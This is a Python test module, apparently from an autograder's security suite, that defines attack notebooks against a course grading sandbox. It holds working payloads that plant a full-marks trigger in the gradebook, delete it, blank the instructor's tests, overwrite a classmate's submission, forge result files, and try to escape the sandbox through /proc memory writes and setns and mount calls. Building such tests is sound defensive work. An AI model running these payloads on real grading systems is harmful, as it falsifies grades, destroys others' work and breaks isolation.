"""Writing to what is not the student's: a trace, or another mark, shows that it worked."""

import json

from course.attacks.recipes.kit import World, attack

KIND = "writing to what is others'"
WRONG = "\n\ndef double(number):\n    return 0\n"


def wrong_after(world: World, source: str) -> dict:
    """Return a notebook whose `double` is wrong, and which first runs a source, whatever becomes of that."""
    tried = "\n".join(f"    {line}" for line in source.strip().split("\n"))
    return world.solved(double=f"import os\ntry:\n{tried}\nexcept Exception as error:\n    print(error)\n{WRONG}")


@attack(KIND, "puts a trigger into the gradebook that gives full marks to every grade", loses="double")
def trigger_in_the_gradebook(world: World) -> dict:
    return wrong_after(
        world,
        f"""
import sqlite3
book = sqlite3.connect({str(world.course / "gradebook.db")!r}, timeout=2)
book.execute(
    "CREATE TRIGGER IF NOT EXISTS gift AFTER UPDATE OF auto_score ON grade WHEN NEW.auto_score = 0 "
    "BEGIN UPDATE grade SET auto_score = 2, manual_score = 2 WHERE id = NEW.id; END"
)
book.commit()
open({str(world.trace)!r}, "w").close()
""",
    )


@attack(KIND, "deletes the gradebook", loses="double")
def gradebook_deleted(world: World) -> dict:
    return wrong_after(world, f"os.remove({str(world.course / 'gradebook.db')!r})")


@attack(KIND, "empties the tests in the instructor's notebook, for those who come later", loses="double")
def tests_emptied(world: World) -> dict:
    return wrong_after(
        world,
        f"""
import json
path = {str(world.source)!r}
notebook = json.load(open(path))
for cell in notebook["cells"]:
    if cell["metadata"].get("nbgrader", {{}}).get("grade"):
        cell["source"] = "pass"
json.dump(notebook, open(path, "w"))
open({str(world.trace)!r}, "w").close()
""",
    )


@attack(KIND, "replaces a classmate's hand-in by an empty notebook", loses="double")
def other_student_replaced(world: World) -> dict:
    return wrong_after(world, f"open({str(world.mate)!r}, 'w').write('{{}}')")


@attack(KIND, "writes results of its own where the grader keeps them", loses="double")
def result_written(world: World) -> dict:
    marks = [{"name": "check_double", "points": 2, "max_points": 2, "by_hand": False}]
    result = json.dumps({"student": world.name, "chapter": world.chapter.name, "marks": marks, "problem": ""})
    place = world.course / "results" / world.name
    return wrong_after(
        world,
        f"""
os.makedirs({str(place)!r}, exist_ok=True)
open({str(place / f"{world.chapter.name}.json")!r}, "w").write({result!r})
open({str(world.trace)!r}, "w").close()
""",
    )


@attack(KIND, "writes to a folder of the instructor's")
def instructors_folder(world: World) -> dict:
    return world.with_cell(f"open({str(world.trace)!r}, 'w').write('written')")


@attack(KIND, "writes to the instructor's folder through links, moves and a child process")
def instructors_folder_by_other_ways(world: World) -> dict:
    return world.with_cell(f"""
import os, shutil, subprocess
open("mine", "w").write("written")
for way in (
    lambda: os.link("mine", {str(world.trace)!r}),
    lambda: os.rename("mine", {str(world.trace)!r}),
    lambda: os.symlink("mine", {str(world.trace)!r}),
    lambda: shutil.copyfile("/proc/self/exe", {str(world.trace)!r}),
    lambda: subprocess.run(["cp", "/etc/hostname", {str(world.trace)!r}], check=True),
    lambda: os.truncate({str(world.trace.parent)!r}, 0),
):
    try:
        way()
    except Exception as error:
        print(error)
""")


@attack(KIND, "changes a module of the grader's in the memory of its process by /proc", loses="double")
def memory_written(world: World) -> dict:
    return wrong_after(
        world,
        f"""
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid()):
        try:
            descriptor = os.open("/proc/" + name + "/mem", os.O_RDWR)
            open({str(world.trace)!r}, "w").close()
            os.close(descriptor)
        except OSError:
            pass
""",
    )


@attack(KIND, "mounts a folder over the class and leaves its sandbox by setns", loses="double")
def namespace_left(world: World) -> dict:
    return wrong_after(
        world,
        f"""
import ctypes
library = ctypes.CDLL(None, use_errno=True)
for kind in ("mnt", "pid", "net", "user"):
    for process in ("1", str(os.getppid())):
        try:
            library.setns(os.open("/proc/" + process + "/ns/" + kind, os.O_RDONLY), 0)
        except OSError:
            pass
library.unshare(0x10000000 | 0x00020000)
library.mount(b"none", {str(world.course).encode()!r}, b"tmpfs", 0, None)
open({str(world.trace)!r}, "w").close()
""",
    )
